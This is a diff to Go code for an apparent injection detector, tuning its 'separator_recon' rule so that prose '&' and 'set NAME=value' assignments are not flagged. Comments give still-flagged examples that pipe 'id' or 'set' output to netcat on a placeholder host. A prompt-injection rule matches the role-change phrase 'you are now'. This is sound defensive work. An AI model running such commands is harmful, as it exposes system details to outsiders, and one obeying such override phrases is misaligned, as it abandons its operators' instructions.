@@ -584,17 +584,36 @@ func proseContractions(t, m string) bool {
 // "tags & set max length to 100").
 var reAmpersandClause = lazyre.New(`^[ \t]+[a-z]+[ \t]+[a-z]+\b`)
 
-// ampersandWords reports whether every separator_recon match in t is "&" written for "and"
+// ampersandAt reports whether the separator_recon match t[at:end] is "&" written for "and"
 // between words of a sentence (issue 26, fresh calib: Mailpit's changelog): a lone "&" after a
 // word and a space, then a space, the command's name as a word and two more plain words
 // (reAmpersandClause). "localhost & set", "x && env", "a & id | nc x.example 80", "a;id" and "a
 // & whoami & hostname" still count.
-func ampersandWords(t string) bool {
+func ampersandAt(t string, at, end int) bool {
+	if t[at] != '&' || at < 2 || t[at-1] != ' ' || !isWordChar(t[at-2]) || end >= len(t) || at+1 >= len(t) || t[at+1] != ' ' {
+		return false
+	}
+	return reAmpersandClause.MatchString(t[end:])
+}
+
+// reSetAssignment is what follows separator_recon's "set" when it assigns a variable, in a
+// code span or not: a space, then NAME=value ("set `DOTENV_QUIET=false`").
+var reSetAssignment = lazyre.New(`^[ \t]+` + "`?" + `[a-z_][a-z0-9_]*=[^\s;&|` + "`]")
+
+// setAssignmentAt reports whether the separator_recon match t[at:end] is "; set" that assigns
+// a variable (reSetAssignment): `set NAME=value` prints nothing, where a bare `set` lists every
+// variable of the shell (dotenv's README "default to `true`; set `DOTENV_QUIET=false` ... in
+// the shell": issue 26, helper det71, data/heldout/npm-extra calib).
+func setAssignmentAt(t string, at, end int) bool {
+	return strings.HasSuffix(t[at:end], "set") && reSetAssignment.MatchString(t[end:])
+}
+
+// proseSeparators reports whether every separator_recon match in t is "&" written for "and"
+// (ampersandAt) or a "set" that assigns a variable (setAssignmentAt). "a; set", "a; set | nc
+// x.example 80", "a; set X=1; env" and "a && id" still count.
+func proseSeparators(t string) bool {
 	return everyMatchSpan(commandRules, t, func(at, end int) bool {
-		if t[at] != '&' || at < 2 || t[at-1] != ' ' || !isWordChar(t[at-2]) || end >= len(t) || at+1 >= len(t) || t[at+1] != ' ' {
-			return false
-		}
-		return reAmpersandClause.MatchString(t[end:])
+		return ampersandAt(t, at, end) || setAssignmentAt(t, at, end)
 	}, "separator_recon")
 }
 
@@ -631,7 +650,7 @@ func proseMentions(r *Result) {
 		// expect"): proseContractions.
 		return h.Rule == "split_command_name" && strings.Count(h.Match, "'") == 1 && strings.HasSuffix(h.Match, "'s") ||
 			h.Rule == "split_command_name" && proseContractions(t, h.Match) ||
-			h.Rule == "separator_recon" && ampersandWords(t)
+			h.Rule == "separator_recon" && proseSeparators(t)
 	})
 	dropHits(r, PromptInjection, func(h Hit) bool {
 		if h.Rule != "role_hijack" || (h.Match != "you are now" && h.Match != "you're now") {
